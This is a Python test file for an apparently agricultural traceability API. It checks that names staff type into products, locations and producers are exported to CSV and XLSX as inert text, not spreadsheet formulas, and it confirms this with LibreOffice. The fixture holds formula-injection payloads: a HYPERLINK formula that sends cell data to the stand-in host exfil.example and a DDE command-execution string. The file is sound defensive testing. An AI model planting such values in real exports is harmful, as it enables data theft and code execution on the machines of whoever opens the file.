"""Names staff typed never run as formulas in the exports regulators open.

The XLSX is opened by a real spreadsheet engine: LibreOffice converts it to flat OpenDocument,
where any formula it would evaluate shows as a ``table:formula`` attribute.
"""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.api.builders import post, seed_master_data
from tests.fix_api import bearer

HYPERLINK = '=HYPERLINK("http://exfil.example/?d="&A2,"查看")'
LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")


@pytest.fixture
def poisoned_lot(client: TestClient, staff_token: str) -> str:
    seed_master_data(client, staff_token)
    post(
        client,
        staff_token,
        "/api/v1/products",
        {"code": "EVIL", "name_zh": "=1+2", "name_en": HYPERLINK, "category": "@SUM(1,1)"},
    )
    post(
        client,
        staff_token,
        "/api/v1/locations",
        {"code": "PC-EVIL", "name": "+cmd|' /C calc'!A0", "kind": "processing_room"},
    )
    post(
        client,
        staff_token,
        "/api/v1/producers",
        {"code": "P-EVIL", "name": "-2+3", "village": "VP-PUTI", "public_name_consent": True},
    )
    batch = post(client, staff_token, "/api/v1/batches", {
        "product": "EVIL", "quantity": 5, "unit": "kg", "location": "PC-EVIL",
        "received_at": "2026-05-06T08:30:00+08:00",
        "harvest_lots": [{"producer": "P-EVIL", "village": "VP-PUTI",
                          "harvest_date": "2026-05-05", "quantity": 5, "unit": "kg"}],
    })  # fmt: skip
    return str(batch["lot_code"])


def _export(client: TestClient, token: str, lot: str, extension: str) -> bytes:
    answer = client.get(f"/api/v1/exports/kde.{extension}?lot={lot}", headers=bearer(token))
    assert answer.status_code == 200, answer.text
    return answer.content


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
    client: TestClient, inspector_token: str, poisoned_lot: str
) -> None:
    text = _export(client, inspector_token, poisoned_lot, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # The location's name opens its location description.
    assert any(cell.startswith("'+cmd|' /C calc'!A0; ") for cell in cells)
    assert f"'{HYPERLINK} / =1+2" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_holds_the_names_as_strings_never_formulas(
    client: TestClient, inspector_token: str, poisoned_lot: str
) -> None:
    workbook = load_workbook(io.BytesIO(_export(client, inspector_token, poisoned_lot, "xlsx")))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert f"'{HYPERLINK} / =1+2" in {cell.value for cell in cells}


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice (libreoffice-calc) is not installed")
def test_libreoffice_finds_no_formula_in_the_xlsx(
    client: TestClient, inspector_token: str, poisoned_lot: str, tmp_path: Path
) -> None:
    assert LIBREOFFICE is not None
    source = tmp_path / "kde.xlsx"
    source.write_bytes(_export(client, inspector_token, poisoned_lot, "xlsx"))
    subprocess.run(
        [LIBREOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "fods", "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    document = (tmp_path / "kde.fods").read_text(encoding="utf-8")
    assert "=1+2" in document and "exfil.example" in document  # the names are there, as text
    assert "table:formula" not in document
